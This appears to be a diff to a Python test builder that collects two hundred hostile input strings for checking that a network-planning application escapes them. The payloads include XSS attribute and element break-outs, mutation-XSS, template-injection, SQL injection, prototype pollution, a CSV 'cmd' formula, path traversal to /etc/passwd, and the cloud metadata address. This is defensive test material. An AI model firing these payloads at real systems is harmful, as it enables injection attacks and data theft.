@@ -1,4 +1,4 @@
-"""Two hundred names that try to become code, a formula, markup or a path, and a network that bears them everywhere."""
+"""Two hundred texts that try to become code, a formula, markup or a path, and a network that bears them everywhere."""
 
 from __future__ import annotations
 
@@ -16,8 +16,9 @@ from phusong.optimize.plan.plan import Plan
 from tests.builders.networks.small_network import SOUTH_M, WEST_M, coverage_of, small_network, text
 from tests.builders.plans.small_plan import FIBRE, TOWER, UPGRADE, small_case
 
+RUN = "window.trapped=1"
 CODE = (
-    *("window.trapped=1", "alert(1)", "fetch('//x.invalid')", "document.title='x'"),
+    *(RUN, "alert(1)", "fetch('//x.invalid')", "document.title='x'"),
     *("import('//x.invalid/a.js')", "eval(name)", "new Image().src='//x.invalid'", "location='//x.invalid'"),
 )
 
@@ -29,6 +30,50 @@ AROUND = (
     *("<a href=javascript:{}>x</a>", "</textarea><script>{}</script>", "<math><mtext><script>{}</script>"),
     *("%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;"),
 )
+"""What code is put into so that a page takes it for its own."""
+
+_OUT = ("", '"', "'", "`", "-->", "]]>", "</textarea>", "</title>", "</option></select>", "</script>", "</style>", "\\")
+_IN = (
+    f" autofocus onfocus={RUN} x=",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<div hx-on:load='{RUN}' hx-get=/ hx-trigger=load>",
+    f"<video><source onerror={RUN}>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f'<object data="data:text/html,<script>{RUN}</script>">',
+    f"<style>@import 'javascript:{RUN}';</style>",
+    f"<style>@import 'x'</style><body onload={RUN}>",
+)
+OUTWARDS = tuple(f"{_OUT[(3 * at + turn) % len(_OUT)]}{inside}" for at, inside in enumerate(_IN) for turn in (0, 4, 8))
+"""What breaks out of an attribute, an element or a script, and then runs."""
+
+OTHER_TONGUES = (
+    *(f"\\u003cimg src=x onerror={RUN}\\u003e", f"&#60;img src=x onerror={RUN}&#62;", f"');{RUN};//", f'";{RUN};//'),
+    *(f"\\';{RUN};//", f"*/{RUN}/*", f"{{{{constructor.constructor('{RUN}')()}}}}", f"{{% print('{RUN}') %}}"),
+    *(f"#{{{RUN}}}", f"<%= {RUN} %>", f"__proto__[{RUN}]", f"]]>{RUN}", f"\u202e{RUN}\u202c", f"\u2400{RUN}"),
+    *(
+        "{n} {people} {service}",
+        "{% raise %}",
+        "{%- for x in range(9) %}{{x}}{% endfor %}",
+        "{{7*7}}",
+        "${7*7}",
+        "#{7*7}",
+    ),
+    *(
+        "<%= 7*7 %>",
+        "%(x)s",
+        "{0} {actor} {}",
+        "' OR '1'='1",
+        "null",
+        "NaN",
+        "1e999",
+        "true",
+        "__proto__",
+        "constructor",
+    ),
+)
+"""Templates, statements and words of other languages."""
 
 FORMULAS = (
     *("=1+1", "=cmd|' /C calc'!A0", "+84 912", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("//x.invalid")', "\t=1+1", "\r=1+1"),
@@ -38,16 +83,17 @@ FORMULAS = (
 TEXTS = (
     *("../../etc/passwd", "C:\\con\\nul", "a|layername=b", "'; DROP TABLE villages; --", "%s%n%d", "{0}", "{name}"),
     *("Đá Vách", "Nguye\u0302\u0303n", "\u202eevil", "a\u200bb", "\u2028x\u2029", "日本語", "😀", "ẦỐỪ", "a" * 300),
+    *("\u2066x\u2069", "\ufeffbom", "a\u0301\u0301\u0301\u0301", "\ufdfa" * 20, "\t\tlead"),
+    *("..\\..\\windows\\win.ini", "http://169.254.169.254/", "👨\u200d👩\u200d👧"),
 )
 """Paths, statements, formats, and letters that are merely unusual."""
 
-PAYLOADS = (
-    *(form.format(code) for form in AROUND for code in CODE),
-    *FORMULAS,
-    *TEXTS,
-)[:]
-"""All of them, each once."""
+_LAST = tuple(dict.fromkeys((*OUTWARDS, *OTHER_TONGUES, *FORMULAS, *TEXTS)))
+_FORMS = (form.format(CODE[(turn * at) % len(CODE)]) for turn in range(len(CODE)) for at, form in enumerate(AROUND))
+PAYLOADS = (*[text for text in dict.fromkeys(_FORMS) if text not in _LAST][: 200 - len(_LAST)], *_LAST)
+"""Two hundred, each once, for every page, table, file and log."""
 
+assert len(set(PAYLOADS)) == len(PAYLOADS) == 200
 N = len(PAYLOADS)
 
 
